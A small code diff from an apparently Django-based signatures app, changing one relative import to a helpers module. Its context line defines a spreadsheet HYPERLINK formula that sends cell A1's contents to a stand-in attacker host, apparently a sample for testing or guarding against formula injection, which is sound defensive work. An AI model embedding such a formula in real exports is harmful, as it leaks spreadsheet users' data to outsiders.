@@ -9,7 +9,7 @@ from django.http import StreamingHttpResponse
 from r2p_letters.signatures.models import Signature
 from r2p_letters.signatures.services import signature_merge, signature_reject
 
-from .organizers import many, sign, url
+from ..helpers.signing import many, sign, url
 
 HYPERLINK = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Click for details")'
 
